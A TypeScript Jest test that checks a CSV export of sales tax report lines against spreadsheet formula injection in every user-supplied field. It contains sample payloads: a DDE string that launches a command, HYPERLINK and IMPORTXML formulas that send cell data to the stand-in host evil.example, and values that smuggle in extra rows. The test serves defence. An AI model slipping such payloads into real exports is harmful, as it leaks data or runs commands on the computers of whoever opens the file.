import { afterAll, describe, expect, it } from '@jest/globals';
import type { ReportLine } from '../../src/domain/run.ts';
import { csvHead, csvRows } from '../../src/operations/lines-as-csv.ts';
import { anAdjustment, aReportLine } from '../support/a-report-line.ts';
import { reportCounts } from '../support/report-counts.ts';

let attempts = 0;
afterAll(() => reportCounts('Attacks', { 'formulas for spreadsheets': attempts }));

const beginnings = ['=', '+', '-', '@', '\t', '\r', '\t=', '\r\n=', '"=', '=\u0000', '＝', '＋', '－', '＠'];
const formulas = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("https://evil.example/?x="&A1,"open")',
  'IMPORTXML("https://evil.example","//a")',
  '1+1',
  'SUM(1,2),=1+1',
  '"\n=1+1\n"',
];

/** Every text of a line that someone else may have written. */
const places: Readonly<Record<string, (text: string) => Partial<ReportLine>>> = {
  name: (name) => ({ name }),
  message: (message) => ({ message }),
  reason: (reason) => ({ reason: reason as 'missing address' }),
  id: (id) => ({ id }),
  sourceId: (sourceId) => ({ sourceId }),
  findings: (text) => ({ findings: [text as ReportLine['findings'][number]] }),
  adjustments: (id) => ({ adjustments: [anAdjustment({ kind: id as 'refund', id })] }),
  jurisdiction: (jurisdiction) => ({
    amounts: { currency: 'USD', jurisdiction, month: '2026-02', total: -1n, taxCollected: -1n },
  }),
};

/** The cells of CSV as a spreadsheet reads them. */
const cellsOf = (csv: string): readonly (readonly string[])[] => {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n|$)/gy)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1);
};

const runsInSpreadsheet = (cell: string): boolean => /^[=+@\t\r＝＋－＠]|^-(?!\d+\.\d\d$)/.test(cell);

describe('a formula that someone wrote into a sale', () => {
  it.each(Object.entries(places))('does not run in a spreadsheet, and adds no cell: %s', (_, place) => {
    const columns = cellsOf(csvHead())[0]?.length;
    for (const beginning of beginnings) {
      for (const formula of formulas) {
        attempts += 1;
        const [row, ...others] = cellsOf(csvRows([aReportLine(place(`${beginning}${formula}`))]));
        expect(others).toStrictEqual([]);
        expect(row).toHaveLength(columns ?? 0);
        expect(row?.filter(runsInSpreadsheet)).toStrictEqual([]);
      }
    }
  });
});
